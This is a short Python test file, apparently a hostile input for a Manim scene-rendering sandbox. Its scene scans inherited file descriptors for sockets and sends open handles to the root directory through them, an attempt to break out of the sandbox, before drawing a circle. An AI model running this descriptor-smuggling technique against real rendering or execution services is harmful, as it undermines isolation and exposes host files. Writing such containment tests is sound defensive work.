# sends its descriptors to the runner, and takes what it finds
# expect: rendered

import os
import socket
import stat

from manim import *


class Hostile(Scene):
    def construct(self):
        for descriptor in range(64):
            try:
                if not stat.S_ISSOCK(os.fstat(descriptor).st_mode):
                    continue
                channel = socket.socket(fileno=os.dup(descriptor))
                channel.setblocking(False)
                peer = channel.getpeername()
                if peer:
                    escaped(f"a socket to {peer}")
                for _ in range(64):
                    socket.send_fds(channel, [b"\n"], [os.open("/", os.O_RDONLY)])
            except OSError:
                pass
        self.play(Create(Circle()), run_time=0.4)
